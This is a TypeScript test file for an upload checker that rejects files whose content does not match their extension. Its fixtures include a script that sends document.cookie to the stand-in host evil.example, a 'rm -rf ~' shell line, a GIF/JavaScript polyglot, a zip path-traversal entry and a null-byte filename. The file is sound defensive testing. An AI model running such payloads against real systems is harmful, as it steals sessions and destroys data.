import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { attachmentEndings } from '@portolan/contract/attachment'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type CheckedFile, checkFile, type Ending } from './check-file.ts'
import { compoundOf, docx, jpg, pdf, png, samples, xlsx, zipOf } from './testing/sample-files.ts'

let folder: string
beforeAll(async () => void (folder = await mkdtemp(join(tmpdir(), 'portolan-check-'))))
afterAll(() => rm(folder, { recursive: true, force: true }))

const maxBytes = 10 * 1024 * 1024
async function check(name: string, content: Buffer | string): Promise<CheckedFile> {
  const path = join(folder, 'file')
  await writeFile(path, content)
  return checkFile({ name, path }, { endings: [...attachmentEndings, 'webp'], maxBytes })
}
const codeOf = (name: string, content: Buffer | string) =>
  check(name, content).then(
    () => 'taken',
    (error: { code?: string; message: string }) => error.code ?? error.message,
  )

const endings = Object.keys(samples) as Ending[]

it.each(endings)('a real .%s is taken, with the type of its content', async (ending) => {
  const checked = await check(`Trip.${ending.toUpperCase()}`, samples[ending])
  expect(checked).toMatchObject({ name: `Trip.${ending.toUpperCase()}`, ending, size: samples[ending].length })
  expect(checked.type).toMatch(/^(image|text|application|message)\//)
  expect(checked.sha256).toMatch(/^[0-9a-f]{64}$/)
})

/** Which other contents an ending takes: the same format, what holds anything, and text, which may say anything. */
const alike: Partial<Record<Ending, readonly Ending[]>> = {
  jpg: ['jpeg'],
  jpeg: ['jpg'],
  zip: ['docx', 'xlsx'],
  txt: ['csv', 'ics', 'eml'],
  csv: ['txt', 'ics', 'eml'],
  // A calendar's first line reads like a header.
  eml: ['ics'],
}
const mismatches = endings.flatMap((name) =>
  endings.filter((content) => content !== name && !alike[name]?.includes(content)).map((content) => [content, name]),
) as [Ending, Ending][]

it.each(mismatches)('a .%s that calls itself .%s is of the wrong type', async (content, name) => {
  expect(await codeOf(`file.${name}`, samples[content])).toBe('invalid_attachment_type')
})

const html = '<!DOCTYPE html><script>fetch("https://evil.example/"+document.cookie)</script>'
describe('what hides', () => {
  it.each([
    ['a page', 'photo.png', html],
    ['a script', 'photo.png', '#!/bin/sh\nrm -rf ~\n'],
    ['SVG', 'photo.png', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['a page behind a PNG’s mark', 'photo.png', Buffer.concat([png.subarray(0, 8), Buffer.from(html.repeat(3))])],
    ['a program', 'photo.jpg', Buffer.from('4d5a90000300000004000000ffff0000', 'hex')],
    ['a program as text', 'notes.txt', Buffer.from('7f454c4602010100000000000000000002003e00', 'hex')],
    ['a page as calendar', 'trip.ics', html],
    ['a page as mail', 'trip.eml', html],
    ['a PDF as text', 'trip.txt', pdf],
    ['an installer as Word file', 'letter.doc', compoundOf('!_StringPool')],
    ['a plain zip as Word file', 'letter.docx', zipOf({ 'a.txt': 'x' })],
    ['a workbook as Word file', 'letter.docx', xlsx],
    [
      'a Word file with macros',
      'letter.docx',
      zipOf({ '[Content_Types].xml': '', 'word/document.xml': '', 'word/vbaProject.bin': 'x' }),
    ],
    ['a program that unpacks itself', 'trip.zip', Buffer.concat([Buffer.from('MZ'), zipOf({ 'a.txt': 'x' })])],
  ])('%s is of the wrong type', async (_, name, content) => {
    expect(await codeOf(name, content)).toBe('invalid_attachment_type')
  })

  it.each([
    ['a script behind a picture’s mark', 'photo.gif', 'GIF89a=1;alert(document.cookie)//'],
    ['a page behind a JPEG’s mark', 'photo.jpg', Buffer.concat([jpg.subarray(0, 3), Buffer.from(html)])],
    ['text whose first letters are a bitmap’s mark', 'photo.bmp', 'BMW 320i, 3 days, Hong Kong to Shenzhen and back'],
    ['a PDF that was cut', 'trip.pdf', pdf.subarray(0, 60)],
    ['a zip that was cut', 'trip.zip', zipOf({ 'a.txt': 'x'.repeat(500) }).subarray(0, 200)],
    ['a Word file that was cut', 'letter.docx', docx.subarray(0, docx.length - 30)],
    ['a zip that leads out of its folder', 'trip.zip', zipOf({ '../../etc/cron.d/x': 'x' })],
    ['nothing', 'notes.txt', ''],
  ])('%s is damaged', async (_, name, content) => {
    expect(await codeOf(name, content)).toBe('invalid_attachment')
  })
})

it.each(['run.exe', 'page.html', 'logo.svg', 'noending', '.png', 'a.docm', 'x.php', 'photo.png\u0000.exe'])(
  '%j has no ending that is taken',
  async (name) => expect(await codeOf(name, png)).toBe('invalid_attachment_type'),
)

it('a zip that would unpack to terabytes is accepted and never unpacked', async () => {
  expect(await codeOf('bomb.zip', zipOf({ 'zeros.bin': 'x' }, 0xfffffff0))).toBe('taken')
})

it('whatever is sent, it is taken or refused in the catalogue', { timeout: 60_000 }, async () => {
  const damaged = fc
    .tuple(fc.constantFrom(...endings), fc.nat(), fc.uint8Array({ maxLength: 60 }), fc.boolean())
    .map(([ending, at, garbage, isCut]): [Ending, Buffer] => {
      const sample = samples[ending]
      const from = at % sample.length
      const rest = isCut ? [] : [sample.subarray(from + garbage.length)]
      return [ending, Buffer.concat([sample.subarray(0, from), garbage, ...rest])]
    })
  await fc.assert(
    fc.asyncProperty(damaged, fc.constantFrom(...endings), async ([from, content], name) => {
      const code = await codeOf(`file.${name}`, content)
      expect(['taken', 'invalid_attachment', 'invalid_attachment_type'], `${from} as ${name}`).toContain(code)
    }),
    { numRuns: 600, seed: 20_261_121 },
  )
})

describe('size', () => {
  it('one byte too many is rejected with the limit in words', async () => {
    await expect(check('large.txt', Buffer.alloc(maxBytes + 1, 'a'))).rejects.toMatchObject({
      code: 'payload_too_large',
      x: '10 MB',
    })
  })
  it('the limit itself is taken', async () => {
    expect((await check('large.txt', Buffer.alloc(maxBytes, 'a'))).size).toBe(maxBytes)
  })
  it('an empty file is none', async () => {
    for (const ending of endings) expect(await codeOf(`empty.${ending}`, '')).toBe('invalid_attachment')
  })
})

describe('text', () => {
  const big5 = Buffer.from([0xb3, 0xaf, 0xac, 0xfc, 0xac, 0xc2, 0x2c, 0x31, 0x0d, 0x0a])
  const shiftJis = Buffer.from([0x8e, 0x52, 0x93, 0x63, 0x2c, 0x31])
  it.each([
    ['Big5, as Excel in Taiwan writes it', 'people.csv', big5],
    ['Shift JIS', 'people.csv', shiftJis],
    ['ISO-2022-JP in a mail', 'trip.eml', 'Subject: \u001b$B%F%9%H\u001b(B\r\n\r\nx'],
    ['UTF-16 with its mark', 'notes.txt', Buffer.from('\ufeffBoarding 09:40', 'utf16le')],
    ['UTF-8 with its mark', 'trip.ics', '\ufeffBEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n'],
    ['text that begins as a picture would', 'notes.txt', 'BMW 320i, and GIF89a'],
  ])('%s is text', async (_, name, content) => {
    expect(await codeOf(name, content)).toBe('taken')
  })
  it.each([
    ['a NUL far inside', Buffer.concat([Buffer.alloc(200_000, 'a'), Buffer.from([0]), Buffer.alloc(10, 'a')])],
    ['UTF-16 that is cut in a letter', Buffer.from([0xff, 0xfe, 0x41])],
    ['UTF-16 with a NUL', Buffer.from('\ufeffa\u0000b', 'utf16le')],
  ])('%s is none', async (_, content) => {
    expect(await codeOf('notes.txt', content)).toBe('invalid_attachment_type')
  })
})
